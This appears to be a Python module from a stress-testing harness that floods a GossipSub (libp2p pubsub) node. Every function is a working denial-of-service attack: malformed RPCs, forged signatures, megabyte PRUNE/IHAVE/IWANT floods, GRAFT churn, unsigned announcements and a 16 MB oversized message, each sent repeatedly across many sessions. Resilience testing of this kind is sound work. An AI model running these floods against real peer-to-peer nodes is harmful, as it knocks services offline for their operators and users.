"""Attacks on announcements over GossipSub, in bytes of their own (libp2p specs, pubsub)."""

from __future__ import annotations

import os
from contextlib import suppress

from wire import Session, Stream, message
from wire.bits import varint

from .target import FAILED, Target

MESHSUB = "/meshsub/1.1.0"
TOPIC = b"/mycel/patterns/1"
MOST = (1 << 20) - 1024  # bytes of one RPC, as a stock host takes it


def _say(stream: Stream, rpc: bytes) -> None:
    stream.write(varint(len(rpc)) + rpc)


def _listening(session: Session) -> Stream:
    """A stream on which we have said that we are subscribed."""
    stream = session.open(MESHSUB)
    _say(stream, message((1, message((1, 1), (2, TOPIC)))))
    return stream


def _stay(session: Session) -> None:
    """Until the victim has had enough, or a moment is over."""
    session.secure.line.patience(0.3)
    with suppress(*FAILED):
        while not session.over:
            session.pump()


def _strike(target: Target, rpc: bytes, pause: float = 0.05) -> None:
    """Say it, again and again, and as somebody else."""

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(2.0)
        with suppress(*FAILED):
            stream = _listening(session)
            for _ in range(8):
                _say(stream, rpc)
                target.count("said")
            _stay(session)
        session.close()

    target.keep_on(one, pause)


def undecodable(target: Target) -> None:
    """RPCs that are no protobuf."""
    _strike(target, b"\xff" * 200)


def bad_keys(target: Target) -> None:
    """A message with a signature, and a key that is none."""
    _strike(
        target,
        message((2, message((1, b"x"), (2, b"y"), (3, bytes(8)), (4, TOPIC), (5, bytes(64)), (6, b"\xff" * 40)))),
    )


def prunes(target: Target) -> None:
    """A megabyte of PRUNE for topics that there are not."""
    entries, size = [], 0
    while size < MOST:
        entry = message((1, os.urandom(6).hex().encode()))
        entries.append((4, entry))
        size += len(entry) + 2
    _strike(target, message((3, message(*entries))))


def told(target: Target) -> None:
    """IHAVE without end, of messages that there are not."""
    names = [(2, os.urandom(16).hex().encode()) for _ in range(25_000)]
    _strike(target, message((3, message((1, message((1, TOPIC), *names))))))


def told_of_topics(target: Target) -> None:
    """IHAVE for topics that there are not."""
    entries = [(1, message((1, os.urandom(6).hex().encode()), (2, bytes(32).hex().encode()))) for _ in range(12_000)]
    _strike(target, message((3, message(*entries))))


def wanted(target: Target) -> None:
    """IWANT without end."""
    names = [(1, os.urandom(32)) for _ in range(500)]
    _strike(target, message((3, message((2, message(*names))))))


def grafts(target: Target) -> None:
    """GRAFT and PRUNE, one after the other."""
    entry = message((1, TOPIC))
    _strike(target, message((3, message(*[(3, entry), (4, entry)] * 100))))


def messages(target: Target) -> None:
    """A megabyte of tiny messages that are no announcements, each another one."""
    entries, size, number = [], 0, 0
    while size < MOST:
        number += 1
        entry = message((1, b"x"), (2, b"%d" % number), (3, b"%08d" % number), (4, TOPIC))
        entries.append((2, entry))
        size += len(entry) + 2
    _strike(target, message(*entries))


def announcements(target: Target) -> None:
    """Well-formed announcements of creators that never signed them: signatures to check."""

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(2.0)
        with suppress(*FAILED):
            stream = _listening(session)
            for _ in range(50):
                entries = []
                for _ in range(20):
                    cid = b"\x01\x71\x12\x20" + os.urandom(32)
                    data = (
                        b"\x85\x58\x24"
                        + cid
                        + b"\x58\x20"
                        + os.urandom(32)
                        + b"\x18\x64\x1a"
                        + _now()
                        + b"\x58\x40"
                        + bytes(64)
                    )
                    entries.append((2, message((2, data), (4, TOPIC))))
                _say(stream, message(*entries))
                target.count("said")
            _stay(session)
        session.close()

    target.keep_on(one)


def _now() -> bytes:
    import time

    return int(time.time()).to_bytes(4, "big")


def oversized(target: Target) -> None:
    """An RPC that is announced as sixteen megabytes, and comes."""

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(1.0)
        with suppress(*FAILED):
            stream = _listening(session)
            stream.write(varint(16 << 20))
            for _ in range(256):
                stream.write(bytes(1 << 16))
            target.count("came")
        session.close()

    target.keep_on(one)


def subscriptions(target: Target) -> None:
    """Subscriptions to topics that there are not."""
    entries = [(1, message((1, 1), (2, os.urandom(80).hex().encode()))) for _ in range(4900)]
    _strike(target, message(*entries))
